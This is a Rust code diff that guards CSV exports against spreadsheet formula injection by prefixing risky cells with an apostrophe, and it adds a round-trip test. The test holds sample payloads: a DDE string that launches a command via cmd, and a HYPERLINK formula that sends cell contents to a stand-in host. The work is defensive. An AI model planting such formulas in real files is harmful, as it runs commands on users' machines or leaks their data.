@@ -44,8 +44,31 @@ const BOOKKEEPING: [&str; 6] = [
     "returned",
 ];
 
-/// One application's CSV row (`CSV_COLUMNS`), as the model holds it.
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab or a carriage
+/// return first) gets a `'` in front, as OWASP advises: opened in Excel or WPS it shows as
+/// text. `draft_from_csv` takes the `'` off again.
+pub fn csv_cell(value: &str) -> String {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{value}")
+    } else {
+        value.to_owned()
+    }
+}
+
+/// The value a `csv_cell` holds.
+fn from_csv_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
+        _ => cell,
+    }
+}
+
+/// One application's CSV row (`CSV_COLUMNS`), every cell guarded by `csv_cell`.
 pub fn csv_row(app: &Application) -> [String; 19] {
+    csv_values(app).map(|v| csv_cell(&v))
+}
+
+fn csv_values(app: &Application) -> [String; 19] {
     let a = &app.applicant;
     let m = &app.pickup.mail;
     [
@@ -140,7 +163,7 @@ pub fn draft_from_csv(
     let mut notes = Vec::new();
     for (column, value) in header.iter().zip(row) {
         let column = column.trim().trim_start_matches('\u{feff}');
-        let value = value.trim();
+        let value = from_csv_cell(value.trim());
         if value.chars().any(char::is_control) {
             return Err(format!("{column} 含控制字符"));
         }
@@ -366,6 +389,34 @@ mod tests {
         assert_eq!(b.residence, app.residence);
         assert_eq!(b.pickup, app.pickup);
         assert_eq!(b.status, Status::Draft);
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_text_and_come_back_as_they_were() {
+        let mut app = Application::new(now());
+        app.applicant.name = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+        app.residence.address = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"点我\")".into();
+        app.pickup.mail.address = "-2+3".into();
+        let row = csv_row(&app);
+        for cell in &row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell}"
+            );
+        }
+        let cells: Vec<&str> = row.iter().map(String::as_str).collect();
+        let back = draft_from_csv(&CSV_COLUMNS, &cells, now()).unwrap().app;
+        assert_eq!(back.applicant.name, app.applicant.name);
+        assert_eq!(back.residence.address, app.residence.address);
+        assert_eq!(back.pickup.mail.address, "-2+3");
+        assert_eq!(csv_cell("\t=1"), "'\t=1");
+        assert_eq!(csv_cell("\r=1"), "'\r=1");
+        assert_eq!(csv_cell("王秀英"), "王秀英");
+        assert_eq!(
+            csv_cell("'quoted"),
+            "'quoted",
+            "only formula starts are guarded"
+        );
     }
 
     #[test]
